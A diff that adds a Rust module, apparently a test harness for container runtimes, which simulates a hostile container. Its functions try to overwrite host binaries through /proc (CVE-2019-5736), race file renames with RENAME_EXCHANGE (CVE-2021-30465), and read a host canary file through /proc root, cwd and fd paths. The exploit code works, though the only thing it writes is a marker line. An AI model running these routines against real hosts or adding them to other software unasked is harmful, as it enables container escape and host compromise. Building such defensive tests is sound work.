@@ -1,0 +1,115 @@
+//! What a hostile container tries. Each prints what it saw; what that means is judged outside.
+
+use std::fs;
+use std::io::{Read as _, Write as _};
+use std::os::fd::AsRawFd as _;
+use std::os::unix::fs::MetadataExt as _;
+use std::process::ExitCode;
+
+use serde_json::{Value, json};
+
+use crate::facts;
+
+/// What an attacker writes where it must not.
+const MARK: &[u8] = b"#!/overwritten by a container\n";
+
+/// CVE-2019-5736: finds each foreign process that shows up in `/proc`, opens its program and
+/// writes to it as soon as the process has gone.
+///
+/// Prints "ready", then one JSON line per program seen; ends after `tries` scans.
+pub(crate) fn exe(tries: u32) {
+    let own = fs::metadata("/proc/self/exe")
+        .map(|m| (m.dev(), m.ino()))
+        .ok();
+    let mut seen = Vec::new();
+    println!("ready");
+    let _ = std::io::stdout().flush();
+    for _ in 0..tries {
+        for pid in facts::pids().unwrap_or_default() {
+            let path = format!("/proc/{pid}/exe");
+            let Ok(program) = fs::File::open(&path) else {
+                continue;
+            };
+            let Ok(meta) = program.metadata() else {
+                continue;
+            };
+            let id = (meta.dev(), meta.ino());
+            if Some(id) == own || seen.contains(&id) {
+                continue;
+            }
+            seen.push(id);
+            let link = fs::read_link(&path).ok();
+            println!(
+                "{}",
+                overwrite(
+                    &program,
+                    &json!({ "pid": pid, "link": link, "dev": id.0, "ino": id.1, "size": meta.size() })
+                )
+            );
+            let _ = std::io::stdout().flush();
+        }
+    }
+    println!("{}", json!({ "done": true, "seen": seen.len() }));
+}
+
+/// The descriptor we hold outlives the process: while that runs, opening for writing is ETXTBSY.
+fn overwrite(program: &fs::File, about: &Value) -> Value {
+    let again = format!("/proc/self/fd/{}", program.as_raw_fd());
+    let mut answer = String::new();
+    for _ in 0..20_000 {
+        match fs::OpenOptions::new().write(true).open(&again) {
+            Ok(mut file) => {
+                answer = match file.write_all(MARK) {
+                    Ok(()) => "written".to_owned(),
+                    Err(error) => facts::errno(error),
+                };
+                break;
+            }
+            Err(error) => answer = facts::errno(error),
+        }
+        if answer != "ETXTBSY" {
+            break;
+        }
+        std::thread::yield_now();
+    }
+    let mut start = [0; 4];
+    let is_elf = (&*program).read_exact(&mut start).is_ok() && start == *b"\x7fELF";
+    json!({ "program": about, "elf": is_elf, "write": answer })
+}
+
+/// Exchanges two names without a moment in which either is missing (CVE-2021-30465 and its kin).
+pub(crate) fn exchange(a: &str, b: &str) -> ExitCode {
+    println!("ready");
+    let _ = std::io::stdout().flush();
+    loop {
+        let flags = rustix::fs::RenameFlags::EXCHANGE;
+        if let Err(error) = rustix::fs::renameat_with(rustix::fs::CWD, a, rustix::fs::CWD, b, flags)
+        {
+            eprintln!("exchange: {}", facts::errno(error));
+            return ExitCode::FAILURE;
+        }
+    }
+}
+
+/// Tries to read the host's file `canary` (an absolute path on the host) through everything that
+/// could lead out: the cwd, every open descriptor, the roots and cwds of all visible processes.
+pub(crate) fn escape(canary: &str) -> Value {
+    let relative = canary.trim_start_matches('/');
+    let up = "../".repeat(32);
+    let mut doors = vec![
+        format!("/{relative}"),
+        format!("{up}{relative}"),
+        format!("./{up}{relative}"),
+    ];
+    for pid in facts::pids().unwrap_or_default() {
+        doors.push(format!("/proc/{pid}/root/{relative}"));
+        doors.push(format!("/proc/{pid}/cwd/{up}{relative}"));
+        for fd in facts::names(&format!("/proc/{pid}/fd")).unwrap_or_default() {
+            doors.push(format!("/proc/{pid}/fd/{fd}/{relative}"));
+            doors.push(format!("/proc/{pid}/fd/{fd}/{up}{relative}"));
+        }
+    }
+    let open: Vec<_> = doors.iter().filter(|door| fs::read(door).is_ok()).collect();
+    let cwd = std::env::current_dir().map_or_else(facts::errno, |cwd| cwd.display().to_string());
+    json!({ "tried": doors.len(), "open": open, "cwd": cwd })
+}
